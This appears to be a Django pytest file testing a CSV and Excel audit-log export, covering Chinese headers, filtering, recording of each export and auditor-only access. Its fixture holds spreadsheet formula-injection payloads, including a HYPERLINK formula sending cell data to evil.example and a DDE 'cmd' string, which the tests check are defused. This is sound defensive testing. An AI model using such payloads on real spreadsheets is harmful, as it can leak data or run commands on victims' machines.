"""Export of the filtered log for the 审计管理员: CSV that Excel opens in Chinese, a real workbook, no
formula smuggled in through a user name, and each export an audit row of its own."""

import csv
import io
from datetime import datetime
from urllib.parse import unquote

import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from portal.audit.log import record
from portal.audit.models import AuditAction, AuditEvent

# What a stranger may type as a user name at the login page.
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def log(people, auditor):
    record(AuditAction.LOGIN_FAILED, username=HOSTILE)
    record(AuditAction.LOGIN_FAILED, username="\x07@SUM(1+1)")  # a control character, then a formula
    record(AuditAction.DOWNLOAD, user=people["head"], verb="+下载申报书", reason="-cmd|' /C calc'!A0")
    record(AuditAction.EXPORT, user=people["province"], verb="不在筛选内")
    return auditor


def exported_csv(response):
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built whole
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_holds_the_filtered_rows_in_chinese_with_formulas_defused(client, log):
    client.force_login(log)
    response = client.get(reverse("audit_export", args=["csv"]), {"action": "login_failed"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "审计日志-" in unquote(response["Content-Disposition"]) and ".csv" in response["Content-Disposition"]
    rows = exported_csv(response)
    assert rows[0][:5] == ["时间", "用户名", "单位", "角色", "类别"]
    assert sorted(row[1] for row in rows[1:]) == sorted(["'" + HOSTILE, "'@SUM(1+1)"])
    assert {row[4] for row in rows[1:]} == {"登录失败"}
    datetime.strptime(rows[1][0], "%Y-%m-%d %H:%M:%S")  # local time, readable


def test_csv_defuses_every_text_column(client, log):
    client.force_login(log)
    rows = exported_csv(client.get(reverse("audit_export", args=["csv"]), {"action": "download"}))
    header, row = rows[0], rows[1]
    assert row[header.index("操作")] == "'+下载申报书"
    assert row[header.index("理由")] == "'-cmd|' /C calc'!A0"
    assert row[header.index("用户名")] == "jn_head"


def test_excel_is_a_workbook_with_times_as_times_and_no_formulas(client, log):
    client.force_login(log)
    response = client.get(reverse("audit_export", args=["xlsx"]), {"action": "login_failed"})
    assert isinstance(response, FileResponse)
    assert ".xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["审计日志"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("时间", "用户名") and len(rows) == 3
    assert all(isinstance(row[0], datetime) for row in rows[1:])
    assert sorted(row[1] for row in rows[1:]) == sorted(["'" + HOSTILE, "'@SUM(1+1)"])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_each_export_is_recorded_with_its_filter(client, log):
    client.force_login(log)
    client.get(reverse("audit_export", args=["csv"]), {"action": "login_failed", "since": "2026-01-01"})
    client.get(reverse("audit_export", args=["xlsx"]))
    exports = AuditEvent.objects.filter(action=AuditAction.EXPORT, user=log).order_by("id")
    assert [row.verb for row in exports] == [
        "导出审计日志 CSV：类别：登录失败；时间：2026-01-01 至 今天",
        "导出审计日志 Excel：全部记录",
    ]
    assert exports[0].reason == "筛选条件：类别：登录失败；时间：2026-01-01 至 今天；共 2 条。"
    assert exports[0].role == "auditor" and exports[0].unit_name


def test_export_is_for_the_auditor_only(client, people, log):
    for who in ("province", "sysadmin", "head", "city", "expert"):
        client.force_login(people[who])
        for fmt in ("csv", "xlsx"):
            assert client.get(reverse("audit_export", args=[fmt])).status_code == 404, who
    client.force_login(log)
    assert client.get(reverse("audit_export", args=["pdf"])).status_code == 404
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT, verb__startswith="导出审计日志").exists()
    assert AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED).count() == 5 * 2 + 1


def test_a_wrong_filter_exports_nothing(client, log):
    client.force_login(log)
    response = client.get(
        reverse("audit_export", args=["csv"]), {"since": "2026-02-01", "until": "2026-01-01"}, follow=True
    )
    page = response.content.decode()
    assert "筛选条件有误，未导出" in page and "截止日期不能早于起始日期" in page
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT, verb__startswith="导出审计日志").exists()


def test_more_rows_than_excel_holds_are_refused_with_advice(client, log, monkeypatch):
    from portal.audit import exports

    monkeypatch.setattr(exports, "EXCEL_MAX_ROWS", 3)
    client.force_login(log)
    page = client.get(reverse("audit_export", args=["xlsx"]), follow=True).content.decode()
    assert "超过 Excel 的行数上限，请缩小时间范围或导出 CSV" in page
    assert client.get(reverse("audit_export", args=["xlsx"]), {"action": "login_failed"}).status_code == 200
